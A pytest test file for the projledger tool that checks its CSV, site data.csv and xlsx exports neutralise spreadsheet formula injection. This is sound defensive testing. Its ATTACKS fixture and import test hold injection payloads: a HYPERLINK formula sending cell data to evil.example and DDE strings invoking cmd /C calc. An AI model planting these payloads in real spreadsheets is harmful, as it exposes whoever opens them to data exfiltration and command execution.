"""No record text becomes a spreadsheet formula; the numbers the tool writes stay numbers.

OWASP (CSV injection): a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage
return is run as a formula by Excel and LibreOffice. Every text cell projledger writes (csv of
status and summary, the site's data.csv, xlsx) is neutralised with a leading quote; the numbers
it writes itself (a negative variance ``-9.79``) are left as numbers.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest

from projledger.core.text import spreadsheet_cell
from projledger.main import COMMANDS

from conftest import run

AS_OF = "2024-09-30"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Cells the tool writes as numbers (money, percentages, counts, signed variances) or ISO dates.
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?|[0-9]{4}-[0-9]{2}-[0-9]{2}")
ATTACKS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "plan_ref": "+cmd|' /C calc'!A0",
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "division": "-2+3+cmd|' /C calc'!A0",
    "unit": "\t=1+1",
    "owner": "\r=1+1",
    "issue": "=1+1",
    "note": "-1",
}


def record(code: str = "50100000-0001") -> str:
    a = {key: json.dumps(value, ensure_ascii=False) for key, value in ATTACKS.items()}
    return f"""format = 1
code = "{code}"
name = {a["name"]}
plan_ref = {a["plan_ref"]}
fiscal_year = 2567
start = 2023-10-01
end = 2024-09-30
budget = 120000.00

[agency]
department = {a["department"]}
division = {a["division"]}
unit = {a["unit"]}
owner = {a["owner"]}

[strategy]
issue = {a["issue"]}

[[reports]]
no = 1
date = 2023-10-25
progress = 1.0
disbursed = 10000.00
plan_status = "on_plan"
target_status = "on_target"
note = {a["note"]}
"""


@pytest.fixture
def attack_repo(empty_repo: Path) -> Path:
    folder = empty_repo / "records" / "2567"
    folder.mkdir(parents=True)
    (folder / "50100000-0001.toml").write_text(record(), "utf-8")
    assert run("validate", "--as-of", AS_OF).exit_code == 0
    return empty_repo


def assert_no_formula(cells: list[str], where: str) -> None:
    for cell in cells:
        if cell.startswith(FORMULA_START):
            assert NUMBER.fullmatch(cell), f"{where}: {cell!r} would run as a formula"


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


CSV_RUNS = [
    ("status", "--format", "csv"),
    ("status", "--format", "csv", "--lang", "en"),
    ("status", "50100000-0001", "--format", "csv"),
    ("summary", "--format", "csv"),
    ("summary", "--format", "csv", "--by", "strategy"),
    ("summary", "--format", "csv", "--by", "agency", "--by", "quarter"),
]


@pytest.mark.parametrize("args", CSV_RUNS, ids=[" ".join(a) for a in CSV_RUNS])
def test_csv_text_cells_never_start_a_formula(attack_repo: Path, args: tuple[str, ...]) -> None:
    result = run(*args, "--as-of", AS_OF)
    assert result.exit_code == 0, result.stderr
    rows = csv_cells(result.stdout)
    assert len(rows) >= 2
    for row in rows:
        assert_no_formula(row, " ".join(args))


def test_csv_keeps_the_text_recognisable_and_the_numbers_numeric(attack_repo: Path) -> None:
    result = run("status", "--format", "csv", "--as-of", AS_OF)
    header, row = csv_cells(result.stdout)[:2]
    cells = dict(zip(header, row, strict=True))
    assert "'" + ATTACKS["name"] in cells.values()
    variance = [value for key, value in cells.items() if "variance" in key]
    assert variance and variance[0].startswith("-") and NUMBER.fullmatch(variance[0]), variance


def test_excel_csv_is_neutralised_too(attack_repo: Path) -> None:
    result = run("status", "--format", "csv", "--excel", "--as-of", AS_OF)
    if result.exit_code == 2 and "--excel" in result.stderr:
        pytest.skip("--excel is not wired into status yet")
    assert result.exit_code == 0, result.stderr
    assert result.stdout_bytes.startswith(b"\xef\xbb\xbf")
    for row in csv_cells(result.stdout):
        assert_no_formula(row, "status --excel")


def test_site_data_csv_is_neutralised(attack_repo: Path) -> None:
    if "site" not in COMMANDS:
        pytest.skip("site is not registered yet")
    result = run("site", "--output", "_site", "--as-of", AS_OF)
    assert result.exit_code == 0, result.stderr
    data = attack_repo / "_site" / "data.csv"
    assert data.exists()
    for row in csv_cells(data.read_text("utf-8")):
        assert_no_formula(row, "site data.csv")


def _xlsx_cells(path: Path) -> list[object]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate}: a formula {cell.value!r}"
                found.append(cell.value)
    return found


def _check_xlsx(path: Path) -> None:
    values = _xlsx_cells(path)
    texts = [v for v in values if isinstance(v, str)]
    assert_no_formula(texts, path.name)
    assert "'" + ATTACKS["name"] in texts
    assert any(isinstance(v, (int, float)) and not isinstance(v, bool) for v in values), (
        "numbers stay numbers"
    )


@pytest.mark.parametrize("command", ["status", "summary"])
def test_xlsx_cells_are_text_never_formulas(attack_repo: Path, command: str) -> None:
    out = attack_repo / f"{command}.xlsx"
    extra = ("--by", "strategy") if command == "summary" else ()
    result = run(command, "--format", "xlsx", "--output", str(out), *extra, "--as-of", AS_OF)
    if result.exit_code == 2 and ("xlsx" in result.stderr or "--output" in result.stderr):
        pytest.skip(f"{command} --format xlsx is not wired in yet")
    assert result.exit_code == 0, result.stderr
    if command == "status":
        _check_xlsx(out)
    else:
        assert_no_formula([v for v in _xlsx_cells(out) if isinstance(v, str)], out.name)


def test_xlsx_from_the_core(attack_repo: Path) -> None:
    """The workbook builder itself, whether or not a command exposes it yet."""
    from projledger.core.config import load_config
    from projledger.core.portfolio import rows
    from projledger.core.xlsx import status_sheet, write_xlsx

    config = load_config(attack_repo)
    found = list(rows([], config, date(2024, 9, 30)))
    assert found
    columns, lines = status_sheet(found, "th")
    out = attack_repo / "core.xlsx"
    write_xlsx(out, lines, columns, "th")
    _check_xlsx(out)


@pytest.mark.parametrize("start", FORMULA_START)
def test_spreadsheet_cell_neutralises_each_start(start: str) -> None:
    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["โครงการ", "1+1", "a=b", " =1", "", "'=1"])
def test_spreadsheet_cell_leaves_other_text(text: str) -> None:
    assert spreadsheet_cell(text) == text


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_sheet_export_neutralises_record_text(attack_repo: Path, suffix: str) -> None:
    if "sheet" not in COMMANDS:
        pytest.skip("sheet is not registered yet")
    out = attack_repo / f"month.{suffix}"
    result = run("sheet", "export", "--month", "11/2566", "--output", str(out), "--as-of", "2023-12-01")
    assert result.exit_code == 0, result.stderr
    if suffix == "xlsx":
        texts = [v for v in _xlsx_cells(out) if isinstance(v, str)]
        assert "'" + ATTACKS["name"] in texts
        assert_no_formula(texts, out.name)
    else:
        rows = csv_cells(out.read_text("utf-8-sig"))
        assert any("'" + ATTACKS["name"] in row for row in rows)
        for row in rows:
            assert_no_formula(row, out.name)


def test_sheet_import_never_runs_or_stores_a_formula(attack_repo: Path) -> None:
    """A filled sheet whose cells hold formulas: reported, never evaluated, never stored."""
    if "sheet" not in COMMANDS:
        pytest.skip("sheet is not registered yet")
    from openpyxl import load_workbook

    out = attack_repo / "month.xlsx"
    assert (
        run("sheet", "export", "--month", "11/2566", "--output", str(out), "--as-of", "2023-12-01").exit_code
        == 0
    )
    book = load_workbook(out)
    sheet = book.active
    header = [c.value for c in sheet[1]]
    column = {str(h).rsplit("(", 1)[-1].rstrip(")"): i + 1 for i, h in enumerate(header)}
    sheet.protection.sheet = False
    sheet.cell(row=2, column=column["date"], value="24/11/2566")
    sheet.cell(row=2, column=column["progress"], value="=1+1")
    sheet.cell(row=2, column=column["note"], value='=HYPERLINK("http://evil.example","x")')
    book.save(out)
    record = attack_repo / "records" / "2567" / "50100000-0001.toml"
    before = record.read_bytes()
    result = run("sheet", "import", str(out), "--as-of", "2023-12-01")
    assert result.exit_code == 1, result.stderr
    assert "formula" in result.stderr.lower()
    assert record.read_bytes() == before
